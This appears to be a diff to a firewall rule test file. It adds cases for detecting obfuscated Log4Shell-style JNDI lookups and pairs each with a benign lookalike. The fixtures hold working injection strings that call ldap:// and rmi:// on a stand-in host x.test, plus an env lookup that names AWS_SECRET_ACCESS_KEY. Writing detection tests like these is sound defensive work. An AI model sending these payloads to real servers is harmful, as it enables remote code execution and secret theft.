@@ -17,6 +17,9 @@ const hits = (spec: RequestSpec): Array<[number, string]> => hitsOf(gate, spec);
 const CASES: RuleCase[] = [
   [9000804, 'block', 'a nested-lookup JNDI in a header', header('X-Api-Version', '${${lower:j}${upper:n}di:ldap://x.test/a}'), header('X-Template', 'Hello ${user.name}, see ${env.HOME}')],
   [9000804, 'block', 'a percent-encoded JNDI in a form', form('q=%24%7Bjndi%3Aldap%3A%2F%2Fx.test%2Fa%7D'), form('q=%24%7Bprice%7D+per+month')],
+  // rev 4: a nested lookup is one inside an open `${`; VS Code's `${env:HOME}/.local/bin:${env:PATH}` (two closed variables, blind benign set 8) nests none.
+  [9000801, 'suspicious', 'a lookup nested in an open one', json('{"name":"${${env:NaN:-j}ndi:ldap://x.test/a}"}'), json('{"terminal.integrated.env.linux":{"PATH":"${env:HOME}/.local/bin:${env:PATH}"}}')],
+  [9000801, 'suspicious', 'a lookup obfuscated with default values', json('{"name":"${${::-j}${::-n}${::-d}${::-i}:ldap://x.test/a}"}'), json('{"python.defaultInterpreterPath":"${workspaceFolder}/.venv/bin/python","cwd":"${env:HOME}"}')],
   // rev 2: a lookup's prefix is followed by its colon; a CloudFormation parameter `${Env}` in a form body (aws-cli's CreateStack) names none.
   [9000803, 'suspicious', 'a percent-encoded env lookup in a form', form('q=%24%7Benv%3AAWS_SECRET_ACCESS_KEY%7D'), form('TemplateBody=%7B%22Fn%3A%3ASub%22%3A%22orders-%24%7BEnv%7D%22%7D')],
   [9000805, 'block', 'a JNDI lookup in the decoded URI', q('x=%24%7B%24%7B%3A%3A-j%7Dndi%3Armi%3A%2F%2Fx.test%2Fo%7D'), q('tpl=%24%7BmoduleName%7D%3F%24%7BDate.now()%7D')],
